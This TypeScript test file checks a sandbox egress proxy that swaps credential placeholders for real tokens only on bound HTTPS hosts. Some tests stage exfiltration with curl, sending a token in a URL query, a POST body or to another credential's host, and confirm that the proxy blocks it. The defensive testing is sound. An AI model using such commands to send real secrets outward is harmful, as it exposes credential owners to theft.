// The proxy's TLS termination, outside any sandbox: real HTTPS servers on
// loopback with their own throw-away CA, and real clients (curl, Node's
// fetch, Python's urllib and requests) going through the proxy with the
// session CA's bundle. Judged at the servers: what each one received.
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { compileNetworkRules } from '../../sandbox/net/domain-rules.js';
import type { CredentialRecord, HttpRequestRecord } from '../../sandbox/net/intercept-request.js';
import { prepareInterception } from '../../sandbox/net/interception.js';
import { startEgressProxy } from '../../sandbox/net/proxy.js';
import type { EgressProxy, NetAttempt } from '../../sandbox/net/proxy.js';
import { httpsTestServer, makeTestCa } from '../fixtures/test-tls.js';
import type { HttpsTestServer, TestCa } from '../fixtures/test-tls.js';
import { ROOT } from './harness.js';

const REAL = 'ghp_RealSecretValue0123456789abcdefABCDEF';
const OTHER_REAL = 'sk-ant-api03-OtherRealValue0123456789abcdefghijklmnopqrstuv';

interface Run {
  readonly code: number;
  readonly out: string;
}

function run(cmd: string, args: readonly string[], env: Record<string, string> = {}): Promise<Run> {
  return new Promise((resolve) => {
    execFile(cmd, args, { env: { PATH: process.env.PATH ?? '/usr/bin:/bin', ...env }, timeout: 20_000, encoding: 'utf8' }, (error, stdout, stderr) => {
      const code = error ? (typeof error.code === 'number' ? error.code : 1) : 0;
      resolve({ code, out: `${stdout}${stderr}` });
    });
  });
}

describe('TLS termination and credential injection at the proxy', () => {
  let ca: TestCa;
  let dir: string;
  let bound: HttpsTestServer;
  let ruled: HttpsTestServer;
  let tunnelled: HttpsTestServer;
  let badCert: HttpsTestServer;
  let proxy: EgressProxy;
  let placeholder = '';
  let otherPlaceholder = '';
  let bundle = '';
  const requests: HttpRequestRecord[] = [];
  const leaks: CredentialRecord[] = [];
  const attempts: NetAttempt[] = [];

  beforeAll(async () => {
    ca = makeTestCa();
    dir = mkdtempSync(path.join(tmpdir(), 'personae-intercept-'));
    const names = ['api.test', 'rules.test', 'plain.test', 'bad.test', 'model.test'];
    bound = await httpsTestServer(ca.issue(names));
    ruled = await httpsTestServer(ca.issue(names));
    tunnelled = await httpsTestServer(ca.issue(names));
    badCert = await httpsTestServer(ca.selfSigned(names));
    const rules = compileNetworkRules(['api.test', 'GET,POST rules.test/ok/**', 'plain.test', 'bad.test', 'model.test'], []);
    const interception = prepareInterception({
      grants: [
        { env: 'GITHUB_TOKEN', secret: 'gh', value: REAL, inject: 'proxy', hosts: ['api.test', 'bad.test'] },
        { env: 'ANTHROPIC_API_KEY', secret: 'anthropic', value: OTHER_REAL, inject: 'proxy', hosts: ['model.test'] },
      ],
      rules,
      dir,
      sessionId: '0123456789abcdef',
      env: {},
      upstreamCa: ca.caPem,
      onRequest: (r) => requests.push(r),
      onCredential: (c) => leaks.push(c),
    });
    placeholder = interception.env.GITHUB_TOKEN ?? '';
    otherPlaceholder = interception.env.ANTHROPIC_API_KEY ?? '';
    bundle = path.join(interception.trustDir ?? '', 'bundle.pem');
    const intercept = await interception.start();
    const at = (s: HttpsTestServer) => ({ host: '127.0.0.1', port: s.port });
    proxy = await startEgressProxy({
      rules,
      listen: { port: 0 },
      hostMap: new Map([['api.test', at(bound)], ['model.test', at(bound)], ['rules.test', at(ruled)], ['plain.test', at(tunnelled)], ['bad.test', at(badCert)]]),
      onEvent: (a) => attempts.push(a),
      ...(intercept ? { intercept } : {}),
    });
  });

  afterAll(async () => {
    await proxy?.close();
    for (const s of [bound, ruled, tunnelled, badCert]) await s?.close();
    ca?.cleanup();
    rmSync(dir, { recursive: true, force: true });
  });

  const proxyUrl = (): string => `http://127.0.0.1:${proxy.endpoint.kind === 'tcp' ? proxy.endpoint.port : 0}`;
  const curl = (...args: string[]): Promise<Run> => run('curl', ['-sS', '-m', '10', '-x', proxyUrl(), '--cacert', bundle, ...args]);
  const clientEnv = (): Record<string, string> => ({ HTTPS_PROXY: proxyUrl(), https_proxy: proxyUrl(), SSL_CERT_FILE: bundle, NODE_EXTRA_CA_CERTS: path.join(path.dirname(bundle), 'session-ca.pem'), REQUESTS_CA_BUNDLE: bundle });

  it('gives the placeholder the value\'s shape, never the value', () => {
    expect(placeholder).toMatch(/^ghp_[A-Za-z0-9]+$/);
    expect(placeholder).toHaveLength(REAL.length);
    expect(placeholder).not.toBe(REAL);
    expect(otherPlaceholder).toMatch(/^sk-ant-api03-/);
  });

  it('curl: the bound host gets the real value in the header; the answer shows only the placeholder', async () => {
    const r = await curl('-H', `Authorization: Bearer ${placeholder}`, 'https://api.test/user?page=2');
    expect(r.code, r.out).toBe(0);
    const got = bound.seen.at(-1);
    expect(got?.headers.authorization).toBe(`Bearer ${REAL}`);
    expect(got?.headers.host).toBe('api.test');
    // The server echoed the header back: what reached the client has the placeholder again.
    expect(r.out).toContain(placeholder);
    expect(r.out).not.toContain(REAL);
    const e = requests.find((q) => q.path === '/user?page=*');
    expect(e).toMatchObject({ scheme: 'https', method: 'GET', host: 'api.test', decision: 'allow', status: 200, credentials: ['GITHUB_TOKEN'] });
    expect(e?.bytesIn).toBeGreaterThan(0);
  });

  it('curl: Basic auth (user:token) is decoded, filled and encoded again; an echo of it goes back as sent', async () => {
    const r = await curl('-u', `x-access-token:${placeholder}`, 'https://api.test/basic');
    expect(r.code, r.out).toBe(0);
    const auth = String(bound.seen.at(-1)?.headers.authorization ?? '');
    expect(Buffer.from(auth.replace(/^Basic /, ''), 'base64').toString()).toBe(`x-access-token:${REAL}`);
    expect(r.out).not.toContain(auth.replace(/^Basic /, ''));
    expect(r.out).toContain(Buffer.from(`x-access-token:${placeholder}`).toString('base64'));
  });

  it("Node's fetch (undici, through HTTPS_PROXY, trusting NODE_EXTRA_CA_CERTS)", async () => {
    const script = `const { fetch, EnvHttpProxyAgent } = require(${JSON.stringify(path.join(ROOT, 'node_modules', 'undici'))});
fetch('https://api.test/node', { dispatcher: new EnvHttpProxyAgent(), headers: { 'x-api-key': process.env.TOKEN } }).then((r) => r.text()).then((t) => console.log(t), (e) => { console.log('failed', e.cause?.code ?? e.message); process.exit(1); });`;
    const r = await run(process.execPath, ['-e', script], { ...clientEnv(), TOKEN: placeholder });
    expect(r.code, r.out).toBe(0);
    expect(bound.seen.at(-1)?.headers['x-api-key']).toBe(REAL);
    expect(r.out).not.toContain(REAL);
  });

  it("Python's urllib (SSL_CERT_FILE) and requests (REQUESTS_CA_BUNDLE), where installed", async () => {
    const urllib = `import os, urllib.request
req = urllib.request.Request('https://api.test/py', headers={'Authorization': 'token ' + os.environ['TOKEN']})
print(urllib.request.urlopen(req, timeout=10).read().decode())`;
    const r = await run('python3', ['-c', urllib], { ...clientEnv(), TOKEN: placeholder });
    expect(r.code, r.out).toBe(0);
    expect(bound.seen.at(-1)?.headers.authorization).toBe(`token ${REAL}`);
    expect(r.out).not.toContain(REAL);
    const hasRequests = (await run('python3', ['-c', 'import requests'])).code === 0;
    if (!hasRequests) return;
    const viaRequests = `import os, requests
print(requests.get('https://api.test/requests', headers={'Authorization': 'Bearer ' + os.environ['TOKEN']}, timeout=10).text)`;
    const q = await run('python3', ['-c', viaRequests], { ...clientEnv(), TOKEN: placeholder });
    expect(q.code, q.out).toBe(0);
    expect(bound.seen.at(-1)?.headers.authorization).toBe(`Bearer ${REAL}`);
    expect(q.out).not.toContain(REAL);
  });

  it('SOCKS5 (socks5h) to a bound host is terminated the same way', async () => {
    const r = await run('curl', ['-sS', '-m', '10', '--socks5-hostname', proxyUrl().replace('http://', ''), '--cacert', bundle, '-H', `Authorization: Bearer ${placeholder}`, 'https://api.test/socks']);
    expect(r.code, r.out).toBe(0);
    expect(bound.seen.at(-1)?.headers.authorization).toBe(`Bearer ${REAL}`);
  });

  it("refuses one credential's placeholder on its way to another credential's host, and sends nothing", async () => {
    const before = bound.seen.length;
    const r = await curl('-H', `x-api-key: ${otherPlaceholder}`, 'https://api.test/steal');
    expect(r.out).toContain('credentials.ANTHROPIC_API_KEY is bound to model.test');
    expect(bound.seen.length).toBe(before);
    expect(leaks.at(-1)).toMatchObject({ name: 'ANTHROPIC_API_KEY', host: 'api.test', where: 'header x-api-key' });
  });

  it('refuses an exfiltration to an allowed host (URL, body), and the server receives nothing', async () => {
    const before = ruled.seen.length;
    const inUrl = await curl(`https://rules.test/ok/collect?t=${placeholder}`);
    expect(inUrl.out).toContain('personae proxy: blocked GET rules.test/ok/collect?t=*: credentials.GITHUB_TOKEN is bound to api.test, bad.test');
    const inBody = await curl('-X', 'POST', '--data-binary', `{"note":"${placeholder}"}`, 'https://rules.test/ok/collect');
    expect(inBody.out).toContain('(body)');
    const big = path.join(dir, 'big-body');
    writeFileSync(big, `${'x'.repeat(200_000)}${placeholder}`);
    const bigBody = await curl('-X', 'POST', '--data-binary', `@${big}`, 'https://rules.test/ok/big');
    expect(bigBody.out).not.toContain('"method"');
    expect(ruled.seen.filter((s) => s.body.includes(placeholder) || s.url.includes(placeholder))).toEqual([]);
    expect(ruled.seen.slice(before).map((s) => s.url)).toEqual([]);
    expect(leaks.filter((l) => l.host === 'rules.test').map((l) => l.where)).toEqual(['url', 'body', 'body']);
  });

  it('decides each request on an HTTP-rule host: a denied method or path never reaches the server', async () => {
    const before = ruled.seen.length;
    expect((await curl('https://rules.test/ok/yes')).out).toContain('"url":"/ok/yes"');
    expect((await curl('-X', 'DELETE', 'https://rules.test/ok/yes')).out).toContain('no network.allow rule allows DELETE /ok/yes on rules.test');
    expect((await curl('https://rules.test/admin')).out).toContain('no network.allow rule allows GET /admin on rules.test');
    expect((await curl('--path-as-is', 'https://rules.test/ok/../admin')).out).toContain('"." or ".." segments');
    expect(ruled.seen.slice(before).map((s) => `${s.method} ${s.url}`)).toEqual(['GET /ok/yes']);
    const denied = requests.filter((q) => q.host === 'rules.test' && q.decision === 'deny' && q.method === 'DELETE');
    expect(denied[0]).toMatchObject({ status: 403, reason: 'no network.allow rule allows DELETE /ok/yes on rules.test' });
    expect(requests.find((q) => q.path === '/ok/yes' && q.decision === 'allow')?.reason).toBe('network.allow: GET,POST rules.test/ok/**');
  });

  it('leaves every other host an uninspected tunnel: the client sees the server\'s own certificate, the server only the placeholder', async () => {
    const r = await run('curl', ['-sS', '-m', '10', '-x', proxyUrl(), '--cacert', ca.caFile, '-H', `Authorization: Bearer ${placeholder}`, 'https://plain.test/x']);
    expect(r.code, r.out).toBe(0);
    expect(tunnelled.seen.at(-1)?.headers.authorization).toBe(`Bearer ${placeholder}`);
    expect(requests.some((q) => q.host === 'plain.test')).toBe(false);
    expect(attempts.some((a) => a.host === 'plain.test' && a.decision === 'allow')).toBe(true);
  });

  it('refuses a bound host whose certificate it cannot verify, in one line, and sends nothing', async () => {
    const r = await curl('-H', `Authorization: Bearer ${placeholder}`, 'https://bad.test/x');
    expect(r.out.trim()).toMatch(/^personae proxy: bad\.test presented a certificate personae does not trust \([A-Z_]+\); nothing was sent$/);
    expect(badCert.seen).toEqual([]);
    expect(requests.find((q) => q.host === 'bad.test')).toMatchObject({ decision: 'deny', status: 502 });
  });

  it('never injects over plain HTTP: the placeholder is refused there', async () => {
    const r = await run('curl', ['-sS', '-m', '10', '-x', proxyUrl(), '-H', `Authorization: Bearer ${placeholder}`, 'http://api.test/plain']);
    expect(r.out).toContain('credentials.GITHUB_TOKEN is sent over HTTPS only');
    expect(bound.seen.some((s) => s.url === '/plain')).toBe(false);
  });
});
